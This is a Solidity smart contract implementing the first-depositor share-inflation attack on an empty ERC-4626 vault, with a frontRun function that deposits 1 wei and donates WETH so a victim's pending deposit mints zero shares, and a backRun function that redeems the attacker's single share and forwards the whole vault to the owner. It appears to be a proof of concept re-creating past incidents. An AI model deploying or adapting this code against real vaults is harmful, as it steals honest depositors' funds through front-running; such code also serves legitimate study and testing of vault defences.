// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IWETH} from "../interfaces/IWETH.sol";
import {IERC4626} from "../interfaces/IERC4626.sol";

/// @title VaultInflationAttacker
/// @notice Re-creates the first-depositor share-inflation attack on an empty
/// ERC-4626 market (Hundred Finance 2023, Raft 2023). Seeing an honest
/// deposit of V pending, the attacker front-runs it: deposit 1 wei for one
/// share, then donate V WETH straight to the vault so one share is worth
/// V + 1 and the victim's V mints 0 shares. After the victim's deposit lands,
/// the attacker back-runs it and redeems its single share for the whole
/// vault: 2V + 1 for an outlay of V + 1.
contract VaultInflationAttacker {
    /// @notice The EOA that receives the proceeds.
    address public immutable owner;
    /// @notice Wrapped ether.
    IWETH public immutable weth;
    /// @notice The target vault.
    IERC4626 public immutable vault;

    /// @notice The caller is not the owner.
    error NotOwner();
    /// @notice msg.value does not cover the donation plus the 1 wei deposit.
    error BadValue(uint256 value, uint256 donation);
    /// @notice Forwarding the proceeds failed.
    error PayoutFailed();

    /// @param weth_ WETH, the vault's asset.
    /// @param vault_ The target vault.
    constructor(IWETH weth_, IERC4626 vault_) {
        owner = msg.sender;
        weth = weth_;
        vault = vault_;
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    /// @notice Front-run: wrap msg.value, deposit 1 wei, donate `donation`.
    /// @param donation WETH sent to the vault outside of deposit (at least
    /// the victim's pending deposit).
    function frontRun(uint256 donation) external payable onlyOwner {
        if (msg.value != donation + 1) revert BadValue(msg.value, donation);
        weth.deposit{value: msg.value}();
        weth.approve(address(vault), 1);
        vault.deposit(1, address(this));
        // The donation: a plain transfer the vault counts as assets.
        weth.transfer(address(vault), donation);
    }

    /// @notice Back-run: redeem every share, unwrap and pay the owner.
    /// @return assets The WETH redeemed.
    function backRun() external onlyOwner returns (uint256 assets) {
        uint256 shares = vault.balanceOf(address(this));
        assets = vault.redeem(shares, address(this), address(this));
        uint256 bal = weth.balanceOf(address(this));
        if (bal > 0) weth.withdraw(bal);
        (bool ok,) = owner.call{value: address(this).balance}("");
        if (!ok) revert PayoutFailed();
    }

    /// @notice Accepts ETH from WETH.withdraw.
    receive() external payable {}
}
